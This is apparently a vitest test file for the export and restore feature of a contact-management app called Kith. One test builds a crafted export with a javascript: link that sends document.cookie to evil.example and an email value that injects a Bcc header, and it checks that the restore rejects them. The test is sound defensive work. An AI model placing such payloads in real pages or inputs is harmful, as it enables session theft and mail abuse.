import { and, eq, isNull } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { contactHealthById } from "@/db/queries/health";
import { restoreKithExport } from "@/db/queries/restore";
import {
  circles,
  contacts,
  events,
  goals,
  interactions,
  jobRoles,
  learningItems,
  skillLevels,
  skills,
  steppingStones,
  successes,
  users,
  winPeople,
  wins,
  winSkills,
} from "@/db/schema";
import { defineAuthedAction } from "@/lib/actions/define-action";
import { restoreExport } from "@/lib/export/restore-export";
import { type KithExport, parseKithExport } from "@/lib/validations/kith-export";
import { restoreExportInputSchema } from "@/lib/validations/account";
import { createBusyUser, createCircle, createContact, createUser } from "../factories";
import { canonical } from "../helpers/export-canonical";
import { exportText, seedManyContacts, seedRichUser } from "../helpers/export-seed";
import { createTestDb, type TestDb } from "../helpers/test-db";

let t: TestDb;
const NOW = new Date("2026-11-20T10:00:00Z");
const DAY = 86_400_000;

beforeAll(async () => {
  t = await createTestDb();
});
afterAll(async () => {
  await t?.close();
});

// The production action is this composition with the session's user id.
function restoreAs(userId: string) {
  const authed = defineAuthedAction({ getUserId: async () => userId, getDb: async () => t.db });
  const action = authed(restoreExportInputSchema, restoreExport);
  return (text: string) => action({ file: new File([text], "kith-export.json", { type: "application/json" }) });
}

const exportJson = async (userId: string) =>
  JSON.parse(await exportText(t.db, { userId, format: "kith.json", now: NOW })) as KithExport;

const OWNED = {
  ...{ contacts, circles, events, touches: interactions, successes, roles: jobRoles, skills, wins, winPeople, winSkills },
  ...{ goals, steppingStones, skillLevels, learningItems },
};

async function countsOf(userId: string): Promise<Record<keyof typeof OWNED, number>> {
  const entries = await Promise.all(
    Object.entries(OWNED).map(async ([name, table]) => [name, await t.db.$count(table, eq(table.userId, userId))] as const),
  );
  return Object.fromEntries(entries) as Record<keyof typeof OWNED, number>;
}

const NOTHING = Object.fromEntries(Object.keys(OWNED).map((name) => [name, 0]));

describe("export, restore into a new account, export again", () => {
  it("gives back the same contacts, circles, events, touches, successes, settings, job journal and career plan", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const bystander = await createBusyUser(t.db, NOW);
    const bystanderBefore = await countsOf(bystander.user.id);
    const first = await exportJson(user.id);

    const fresh = await createUser(t.db);
    const result = await restoreAs(fresh.id)(JSON.stringify(first));
    expect(result).toEqual({
      ok: true,
      data: { circles: 3, events: 2, contacts: 5, touches: 4, successes: 2, roles: 2, skills: 3, wins: 3, goals: 2, steppingStones: 3, learningItems: 2 },
    });

    const second = await exportJson(fresh.id);
    expect(canonical(second)).toEqual(canonical(first));
    // So were no reminders and an import's spread, each with the due date it makes.
    const scheduled = (doc: KithExport) =>
      doc.contacts
        .filter((contact) => !contact.remindersEnabled || contact.firstDueShare !== null)
        .map(({ remindersEnabled, firstDueShare, createdAt, nextDueAt }) => ({ remindersEnabled, firstDueShare, createdAt, nextDueAt }))
        .sort((a, b) => a.createdAt.localeCompare(b.createdAt));
    expect(scheduled(second)).toEqual(scheduled(first));
    expect(scheduled(first)).toEqual([
      {
        remindersEnabled: true,
        firstDueShare: 400_000_000,
        createdAt: new Date(NOW.getTime() - 50 * DAY).toISOString(),
        // 0.4 of the default 21 days, rounded up to a day.
        nextDueAt: new Date(NOW.getTime() - 41 * DAY).toISOString(),
      },
      { remindersEnabled: false, firstDueShare: null, createdAt: new Date(NOW.getTime() - 5 * DAY).toISOString(), nextDueAt: null },
    ]);
    // The journal was there to compare: wins with people in several parts, and skills.
    expect(second.wins.flatMap((win) => win.people)).toHaveLength(4);
    expect(second.wins.flatMap((win) => win.skillIds)).toHaveLength(3);
    expect(second.settings.journalPromptEnabled).toBe(false);
    // Every record is new: no id of the first account is reused.
    const records = (doc: KithExport) => [
      ...[...doc.contacts, ...doc.circles, ...doc.events, ...doc.touches, ...doc.successes],
      ...[...doc.roles, ...doc.skills, ...doc.wins],
      ...[...doc.career.goals, ...doc.career.goals.flatMap((goal) => goal.stones), ...doc.career.learning],
    ];
    const firstIds = new Set(records(first).map((r) => r.id));
    for (const record of records(second)) {
      expect(firstIds.has(record.id)).toBe(false);
    }
    // Neither the source account nor anyone else was touched.
    expect(canonical(await exportJson(user.id))).toEqual(canonical(first));
    expect(await countsOf(bystander.user.id)).toEqual(bystanderBefore);
  });

  it("leaves each contact's stored health as the model computes it from the restored touches", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const fresh = await createUser(t.db);
    expect((await restoreAs(fresh.id)(JSON.stringify(await exportJson(user.id)))).ok).toBe(true);

    const stored = await t.db
      .select({
        id: contacts.id,
        name: contacts.name,
        score: contacts.healthScore,
        band: contacts.healthBand,
        asOf: contacts.healthAsOf,
        archivedAt: contacts.archivedAt,
      })
      .from(contacts)
      .where(eq(contacts.userId, fresh.id));
    expect(stored).toHaveLength(5);
    // Marked done for today, so the first page read does not score everyone again.
    const [{ refreshedAt } = { refreshedAt: null }] = await t.db
      .select({ refreshedAt: users.healthRefreshedAt })
      .from(users)
      .where(eq(users.id, fresh.id));
    expect(refreshedAt).not.toBeNull();
    for (const contact of stored) {
      if (contact.archivedAt) {
        expect(contact.score).toBeNull();
        continue;
      }
      expect(contact.asOf).not.toBeNull();
      const now = contact.asOf ?? NOW;
      const expected = (await contactHealthById(t.db, { userId: fresh.id, now, contactIds: [contact.id] })).get(contact.id);
      expect({ score: contact.score, band: contact.band }).toEqual({ score: expected?.score, band: expected?.band });
    }
    // The same as the source account's contacts at the same moment.
    const at = new Date();
    const source = await contactHealthById(t.db, { userId: user.id, now: at });
    const restored = await contactHealthById(t.db, { userId: fresh.id, now: at });
    const byName = async (userId: string, health: typeof source) => {
      const rows = await t.db.select({ id: contacts.id, name: contacts.name }).from(contacts).where(eq(contacts.userId, userId));
      return Object.fromEntries(rows.flatMap((row) => (health.has(row.id) ? [[row.name, health.get(row.id)]] : [])));
    };
    expect(await byName(fresh.id, restored)).toEqual(await byName(user.id, source));
  });

  it("restores a large account in chunks, complete", async () => {
    const many = await seedManyContacts(t.db, 2_345);
    const first = await exportJson(many.user.id);
    const fresh = await createUser(t.db);
    const result = await restoreAs(fresh.id)(JSON.stringify(first));
    expect(result.ok).toBe(true);
    const second = await exportJson(fresh.id);
    expect(second.contacts).toHaveLength(2_345);
    expect(canonical(second)).toEqual(canonical(first));
    // Never touched: due one default cadence after they were added.
    const [due] = await t.db
      .select({ n: contacts.id })
      .from(contacts)
      .where(and(eq(contacts.userId, fresh.id), isNull(contacts.nextDueAt)));
    expect(due).toBeUndefined();
  });
});

describe("restore refuses, and writes nothing", () => {
  it("into an account that already has contacts", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const text = JSON.stringify(await exportJson(user.id));
    const target = await createUser(t.db, { name: "Keep me", defaultCadenceDays: 40 });
    await createContact(t.db, { userId: target.id });
    const before = await countsOf(target.id);

    const result = await restoreAs(target.id)(text);
    expect(result).toEqual({
      ok: false,
      formError: "Restore works into an empty account: this one already has 1 contact.",
      fieldErrors: { file: ["Restore works into an empty account: this one already has 1 contact."] },
    });
    expect(await countsOf(target.id)).toEqual(before);
    const [settings] = await t.db.select({ name: users.name, cadence: users.defaultCadenceDays }).from(users).where(eq(users.id, target.id));
    expect(settings).toEqual({ name: "Keep me", cadence: 40 });
  });

  it("a file that is not JSON, not a Kith export, from a newer Kith, or inconsistent", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const good = await exportJson(user.id);
    const target = await createUser(t.db);
    const restore = restoreAs(target.id);
    const fileError = async (text: string) => {
      const result = await restore(text);
      expect(result.ok).toBe(false);
      return result.ok ? undefined : result.fieldErrors?.file?.[0];
    };

    expect(await fileError("name,email\nAda,ada@example.com")).toMatch(/not JSON/);
    expect(await fileError(JSON.stringify({ contacts: [] }))).toMatch(/not a Kith export/);
    expect(await fileError(JSON.stringify({ ...good, version: 5 }))).toMatch(/newer version of Kith/);
    const [firstTouch, ...otherTouches] = good.touches;
    if (!firstTouch) throw new Error("no touch seeded");
    const dangling = { ...good, touches: [{ ...firstTouch, contactIds: ["not-a-contact"] }, ...otherTouches] };
    expect(await fileError(JSON.stringify(dangling))).toBe(
      "This export cannot be restored: touches[0].contactIds[0]: Names a contact that is not in the file.",
    );
    const badTier = { ...good, contacts: good.contacts.map((c, i) => (i === 2 ? { ...c, tier: "best" } : c)) };
    expect(await fileError(JSON.stringify(badTier))).toMatch(/^This export cannot be restored: contacts\[2\]\.tier: /);

    const authed = defineAuthedAction({ getUserId: async () => target.id, getDb: async () => t.db });
    const upload = authed(restoreExportInputSchema, restoreExport);
    const uploadError = async (file: unknown) => {
      const result = await upload({ file });
      return result.ok ? undefined : result.fieldErrors?.file?.[0];
    };
    // No file, the empty nameless file a browser sends when none was picked, an empty file.
    expect(await uploadError(null)).toMatch(/^Choose the kith-export/);
    expect(await uploadError(new File([], ""))).toMatch(/^Choose the kith-export/);
    expect(await uploadError(new File([], "kith-export.json"))).toMatch(/^This file is empty/);

    expect(await countsOf(target.id)).toEqual(NOTHING);
  });

  it("a crafted export with a javascript: link, a malformed email and a 1,000,000-character note", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const good = await exportJson(user.id);
    const crafted = {
      ...good,
      settings: { ...good.settings, name: "Crafted", defaultCadenceDays: 7 },
      contacts: good.contacts.map((contact, index) =>
        index === 3
          ? {
              ...contact,
              links: [{ url: "javascript:fetch('https://evil.example/'+document.cookie)", label: "Site" }],
              emails: [{ email: "victim@example.com>\r\nBcc: all@example.com", label: null, isPrimary: true }],
              notes: "x".repeat(1_000_000),
            }
          : contact,
      ),
    };
    const target = await createUser(t.db, { name: "Keep me", defaultCadenceDays: 40 });
    const result = await restoreAs(target.id)(JSON.stringify(crafted));
    expect(result.ok).toBe(false);
    expect(result.ok ? undefined : result.fieldErrors?.file?.[0]).toBe(
      "This export cannot be restored: contacts[3].notes: Keep the notes under 100,000 characters (and 2 more problems).",
    );
    expect(await countsOf(target.id)).toEqual(NOTHING);
    const [settings] = await t.db.select({ name: users.name, cadence: users.defaultCadenceDays }).from(users).where(eq(users.id, target.id));
    expect(settings).toEqual({ name: "Keep me", cadence: 40 });
  });

  it("stores what it restores as the forms store it: trimmed, links made https", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const good = await exportJson(user.id);
    const [first, ...rest] = good.contacts;
    if (!first) throw new Error("no contact seeded");
    const edited = { ...good, contacts: [{ ...first, name: "  Spaced Out  ", links: [{ url: "ada.example/about", label: " " }] }, ...rest] };
    const target = await createUser(t.db);
    expect((await restoreAs(target.id)(JSON.stringify(edited))).ok).toBe(true);
    const restored = (await exportJson(target.id)).contacts.find((contact) => contact.name === "Spaced Out");
    expect(restored?.links).toEqual([{ url: "https://ada.example/about", label: null }]);
  });

  it("for a signed-out visitor", async () => {
    const authed = defineAuthedAction({ getUserId: async () => null, getDb: async () => t.db });
    const result = await authed(restoreExportInputSchema, restoreExport)({ file: new File(["{}"], "x.json") });
    expect(result).toEqual({ ok: false, formError: "Your session has ended. Sign in again to continue." });
  });
});

describe("restoreKithExport", () => {
  it("uses a circle the account already has by that name, and takes the file's settings", async () => {
    const { user, tag } = await seedRichUser(t.db, NOW);
    const parsed = parseKithExport(await exportJson(user.id));
    if (!parsed.ok) throw new Error(parsed.message);
    const target = await createUser(t.db);
    const existing = await createCircle(t.db, { userId: target.id, name: `alumni ${tag}` });

    const outcome = await restoreKithExport(t.db, { userId: target.id, data: parsed.data });
    expect(outcome.status).toBe("restored");
    const list = await t.db.select({ id: circles.id, name: circles.name }).from(circles).where(eq(circles.userId, target.id));
    expect(list).toHaveLength(3);
    expect(list).toContainEqual({ id: existing.id, name: `alumni ${tag}` });
    const [settings] = await t.db.select().from(users).where(eq(users.id, target.id));
    expect(settings).toMatchObject({ timeZone: "Europe/Berlin", digestWeekday: 5, digestHour: 7, digestEnabled: false, defaultCadenceDays: 21 });
  });

  it("gives an email the file lists on two contacts to the older one, and lists it in the other's extra fields", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const good = await exportJson(user.id);
    const [first, second, ...rest] = good.contacts;
    if (!first || !second) throw new Error("two contacts needed");
    const email = "shared@duplicate.example";
    const older = { ...first, createdAt: "2020-01-01T00:00:00.000Z", emails: [{ email, label: null, isPrimary: true }] };
    const newer = {
      ...second,
      createdAt: "2021-01-01T00:00:00.000Z",
      extra: { note: "kept" },
      emails: [
        { email: "own@duplicate.example", label: null, isPrimary: true },
        { email: "OWN@duplicate.example", label: "again", isPrimary: false },
        { email: email.toUpperCase(), label: null, isPrimary: false },
      ],
    };
    const parsed = parseKithExport({ ...good, contacts: [newer, older, ...rest] });
    if (!parsed.ok) throw new Error(parsed.message);
    const target = await createUser(t.db);

    expect((await restoreKithExport(t.db, { userId: target.id, data: parsed.data })).status).toBe("restored");
    const restored = (await exportJson(target.id)).contacts;
    expect(restored.find((contact) => contact.name === first.name)?.emails).toEqual([{ email, label: null, isPrimary: true }]);
    expect(restored.find((contact) => contact.name === second.name)).toMatchObject({
      emails: [{ email: "own@duplicate.example", label: null, isPrimary: true }],
      extra: { note: "kept", "Emails also on another contact": [email.toUpperCase()] },
    });
  });

  it("makes circles one that the database counts as one name, where JavaScript sees two", async () => {
    const { user } = await seedRichUser(t.db, NOW);
    const good = await exportJson(user.id);
    const [first] = good.contacts;
    if (!first) throw new Error("no contact seeded");
    // "İ" lowers to "i̇" in JavaScript, to "i" in PostgreSQL: the schema's own check lets both through.
    const twins = [
      { id: "twin-1", name: "İstanbul", createdAt: NOW.toISOString() },
      { id: "twin-2", name: "istanbul", createdAt: NOW.toISOString() },
    ];
    const doc = {
      ...good,
      circles: [...good.circles, ...twins],
      contacts: [{ ...first, circles: twins.map(({ id, name }) => ({ id, name })) }, ...good.contacts.slice(1)],
    };
    const parsed = parseKithExport(doc);
    if (!parsed.ok) throw new Error(parsed.message);
    const target = await createUser(t.db);

    expect((await restoreKithExport(t.db, { userId: target.id, data: parsed.data })).status).toBe("restored");
    const names = await t.db.select({ name: circles.name }).from(circles).where(eq(circles.userId, target.id));
    expect(names.map((circle) => circle.name).filter((name) => name.endsWith("stanbul"))).toEqual(["İstanbul"]);
    const restored = (await exportJson(target.id)).contacts.find((contact) => contact.name === first.name);
    expect(restored?.circles.map((circle) => circle.name)).toEqual(["İstanbul"]);
  });
});
